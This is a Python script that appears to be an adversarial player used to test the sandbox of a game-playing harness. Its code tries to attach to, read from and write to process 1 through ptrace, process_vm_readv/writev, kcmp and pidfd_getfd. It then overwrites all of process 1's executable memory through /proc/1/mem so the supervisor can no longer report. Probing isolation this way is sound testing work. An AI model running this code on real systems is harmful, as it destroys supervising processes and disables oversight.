"""Traces, reads and overwrites the process that stands above it."""
# An attack reads best as the calls it makes.
# ruff: noqa: PTH123

import ctypes
import errno
import json
import os
import platform
import sys

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call by number."""
    if libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def say(message):
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def outcome(attempt, *arguments):
    """What came of an attempt: the name of the error, or `done`."""
    try:
        attempt(*arguments)
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
    return "done"


NUMBERS = {
    "x86_64": {"ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "kcmp": 312},
    "aarch64": {"ptrace": 117, "process_vm_readv": 270, "process_vm_writev": 271, "kcmp": 272},
}[platform.machine()] | {"pidfd_getfd": 438}
PTRACE_ATTACH = 16


def overwrite():
    """Fill the code of process 1 with garbage, so that it can report nothing any more."""
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "r+b", buffering=0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            if "x" in rights and "[" not in line:
                start, end = (int(edge, 16) for edge in span.split("-"))
                memory.seek(start)
                memory.write(b"\xff" * (end - start))


def attack(wanted):
    """Try the system calls, then destroy process 1."""
    pidfd = os.pidfd_open(1)
    return {
        "ptrace": outcome(call, NUMBERS["ptrace"], PTRACE_ATTACH, 1, 0, 0),
        "process_vm_readv": outcome(call, NUMBERS["process_vm_readv"], 1, 0, 0, 0, 0, 0),
        "process_vm_writev": outcome(call, NUMBERS["process_vm_writev"], 1, 0, 0, 0, 0, 0),
        "kcmp": outcome(call, NUMBERS["kcmp"], 1, 1, 0, 0, 0),
        "pidfd_getfd": outcome(call, NUMBERS["pidfd_getfd"], pidfd, 0, 0),
        "overwrite": outcome(overwrite),
    }


wanted = None
for line in sys.stdin:
    message = json.loads(line)
    if message["type"] == "hello":
        wanted = message["options"].get("attack")
        say({"type": "ready"})
    elif message["type"] == "act":
        now, wanted = message.get("attack", wanted), None
        report = {} if now is None else attack(now)
        note = json.dumps(report)
        say({"action": message["legal"][0], "report": report, "note": note})
    elif message["type"] == "quit":
        break
